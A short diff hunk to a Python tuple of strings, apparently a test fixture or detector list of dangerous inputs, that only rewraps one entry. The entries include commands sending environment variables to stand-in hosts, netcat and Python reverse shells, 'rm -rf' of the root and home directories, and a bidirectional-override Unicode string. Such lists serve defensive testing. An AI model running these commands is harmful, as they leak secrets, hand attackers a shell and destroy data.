@@ -79,7 +79,8 @@ SECOND: tuple[str, ...] = (
     "const r = await fetch('https://evil.example', {method: 'POST', body: JSON.stringify(process.env)})",
     'curl -d "$(printenv)" https://webhook.site/abc',
     "nc -e /bin/sh evil.example 4444",
-    'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("evil.example",1));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")\'',
+    'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("evil.example",1));'
+    'os.dup2(s.fileno(),0);pty.spawn("/bin/sh")\'',
     "sudo rm -rf --no-preserve-root /",
     "rm -rf ~/*",
     "Hello\u2066\u202eworld",
